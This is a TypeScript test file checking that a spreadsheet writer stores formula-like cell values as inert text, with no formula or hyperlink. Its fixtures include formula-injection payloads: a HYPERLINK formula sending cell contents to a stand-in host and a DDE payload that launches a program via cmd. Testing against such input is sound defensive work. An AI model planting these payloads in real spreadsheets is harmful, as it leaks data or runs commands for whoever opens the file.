import { expect, it } from 'vitest'
import { newBook } from './excel-book.ts'
import { faultySheet } from './write-sheet.ts'

it('a cell that begins like a formula comes back as the text it was, and nothing runs where it is opened', async () => {
  const hostile = ['=HYPERLINK("http://x.invalid?"&A1)', "+cmd|' /C calc'!A0", '-1+1', '@SUM(1)', '\t=1+1']
  const file = await faultySheet(
    'Dòng lỗi',
    ['=1+1', 'Tên'],
    hostile.map((text, i) => ({ row: i + 2, cells: [text, 'An'] })),
    hostile.map((text, i) => ({ row: i + 2, column: text, vi: '=1+1', en: '' })),
  )
  const book = await newBook()
  await book.xlsx.load(file as never)
  const sheet = book.worksheets[0]
  const texts: string[] = []
  sheet?.eachRow(row =>
    row.eachCell(cell => {
      expect(cell.formula).toBeUndefined()
      expect(cell.hyperlink).toBeUndefined()
      texts.push(String(cell.value))
    }),
  )
  for (const text of hostile) expect(texts).toContain(text)
})
